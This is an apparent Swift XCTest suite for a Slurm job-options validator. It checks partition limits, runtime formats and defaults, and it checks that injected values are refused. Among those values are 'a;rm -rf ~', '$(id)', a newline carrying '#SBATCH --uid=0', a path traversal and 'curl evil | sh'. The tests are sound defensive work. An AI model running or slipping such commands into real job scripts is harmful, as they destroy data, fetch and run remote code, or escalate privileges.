import HubModel
import SlurmSpawner
import XCTest

final class SlurmOptionsTests: XCTestCase {
    let site = SlurmSite(
        partitions: [
            .init(name: "debug", simple: true, maxRuntime: 12 * 3600, maxCPUs: 2, maxMemoryMiB: 4096),
            .init(name: "gpu", maxRuntime: 2 * 86400, maxCPUs: 16, maxMemoryMiB: 65536, maxGPUs: 2, gresTemplate: "gpu:a100:{}"),
        ],
        environments: [.init(id: "scipy", modules: ["SciPy-bundle/2023.07"]), .init(id: "venv", path: "/opt/venv/bin")])

    func options(_ raw: [String: JSONValue]) throws -> SlurmOptions {
        try SlurmOptions.validate(raw, site: site)
    }

    func assertRefused(_ raw: [String: JSONValue], field: String, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertThrowsError(try options(raw), file: file, line: line) { error in
            XCTAssertEqual((error as? OptionError)?.field, field, "\(error)", file: file, line: line)
        }
    }

    func testValidOptionsFromFormStrings() throws {
        let result = try options(["partition": "gpu", "nprocs": "4", "mem": "8G", "ngpus": "1", "runtime": "1-02:30",
                                  "environment": "scipy", "account": "proj_01", "default_url": "/lab"])
        XCTAssertEqual(result.partition, "gpu")
        XCTAssertEqual(result.cpus, 4)
        XCTAssertEqual(result.memoryMiB, 8192)
        XCTAssertEqual(result.gpus, 1)
        XCTAssertEqual(result.runtime, 26 * 3600 + 1800)
        XCTAssertEqual(result.timeLimit, "1-02:30:00")
        XCTAssertEqual(result.environment.modules, ["SciPy-bundle/2023.07"])
        XCTAssertEqual(result.account, "proj_01")
    }

    func testDefaultsAndNumbers() throws {
        let result = try options(["partition": "debug", "cpus": 2, "environment": "venv"])
        XCTAssertEqual(result.cpus, 2)
        XCTAssertNil(result.memoryMiB)
        XCTAssertEqual(result.timeLimit, "01:00:00")
    }

    func testLimitsPerPartition() {
        assertRefused(["partition": "debug", "cpus": "3", "environment": "venv"], field: "cpus")
        assertRefused(["partition": "debug", "gpus": "1", "environment": "venv"], field: "gpus")
        assertRefused(["partition": "debug", "memory": "5G", "environment": "venv"], field: "memory")
        assertRefused(["partition": "debug", "runtime": "13", "environment": "venv"], field: "runtime")
        assertRefused(["partition": "nope", "environment": "venv"], field: "partition")
        XCTAssertEqual(try options(["environment": "venv"]).partition, "debug", "the first partition is the default")
    }

    func testFormatsAndInjection() {
        for bad in ["1:2:3:4", "ab", "10:75", "-1", "1-"] {
            assertRefused(["partition": "debug", "runtime": .string(bad), "environment": "venv"], field: "runtime")
        }
        assertRefused(["partition": "debug", "memory": "4GB", "environment": "venv"], field: "memory")
        assertRefused(["partition": "debug\n#SBATCH --uid=0", "environment": "venv"], field: "partition")
        assertRefused(["partition": "debug", "environment": "venv", "account": "a;rm -rf ~"], field: "account")
        assertRefused(["partition": "debug", "environment": "venv", "qos": "$(id)"], field: "qos")
        assertRefused(["partition": "debug", "environment": "venv", "reservation": "r`x`"], field: "reservation")
        assertRefused(["partition": "debug", "environment": "venv", "default_url": "/lab/../../etc"], field: "default_url")
        assertRefused(["partition": "debug", "environment": "other"], field: "environment")
        XCTAssertEqual(try options(["partition": "debug"]).environment.id, "scipy", "the first environment is the default")
        assertRefused(["partition": "debug", "environment": "venv", "prologue": "curl evil | sh"], field: "prologue")
        assertRefused(["partition": "debug", "environment": "venv", "cpus": .array([1])], field: "cpus")
        assertRefused(["partition": "debug", "environment": "venv", "cpus": "２"], field: "cpus")
    }

    func testAccountingOptionsCanBeDisabled() {
        var strict = site
        strict.allowAccountingOptions = false
        XCTAssertThrowsError(try SlurmOptions.validate(["partition": "debug", "environment": "venv", "qos": "high"], site: strict))
    }
}

/// Every option that reaches a job script, with a hostile character at its start, in its middle or at its end, is
/// refused and the refusal names that option: each option × each character × each place.
final class SlurmOptionPropertyTests: XCTestCase {
    func testEveryOptionRefusesHostileCharactersAnywhere() {
        let site = SlurmSite(
            partitions: [.init(name: "debug", simple: true, maxRuntime: 12 * 3600, maxCPUs: 8, maxMemoryMiB: 4096)],
            environments: [.init(id: "venv", path: "/opt/venv/bin")], allowAccountingOptions: true)
        let valid: [String: String] = [
            "partition": "debug", "cpus": "2", "memory": "2G", "runtime": "01:30", "environment": "venv",
            "account": "proj_01", "qos": "normal", "reservation": "maint", "default_url": "/lab",
        ]
        // C0 controls but tab (spaces and tabs are trimmed at the ends, as form input is), DEL, NEL, line/paragraph
        // separators, bidi overrides and isolates, zero-width characters, the BOM.
        let hostile = (0x00...0x1F).filter { $0 != 0x09 }.compactMap(Unicode.Scalar.init) + [
            "\u{7F}", "\u{85}", "\u{2028}", "\u{2029}", "\u{202E}", "\u{2066}", "\u{200B}", "\u{FEFF}",
        ]
        XCTAssertNoThrow(try SlurmOptions.validate(valid.mapValues { .string($0) }, site: site))
        for (field, value) in valid.sorted(by: { $0.key < $1.key }) {
            for scalar in hostile {
                let middle = value.index(value.startIndex, offsetBy: value.count / 2)
                for bad in [String(scalar) + value, String(value[..<middle]) + String(scalar) + String(value[middle...]),
                            value + String(scalar)] {
                    var raw = valid.mapValues { JSONValue.string($0) }
                    raw[field] = .string(bad)
                    XCTAssertThrowsError(try SlurmOptions.validate(raw, site: site), "\(field)=\(bad.debugDescription)") {
                        XCTAssertEqual(($0 as? OptionError)?.field, field, "\(field)=\(bad.debugDescription): \($0)")
                    }
                }
            }
        }
    }
}
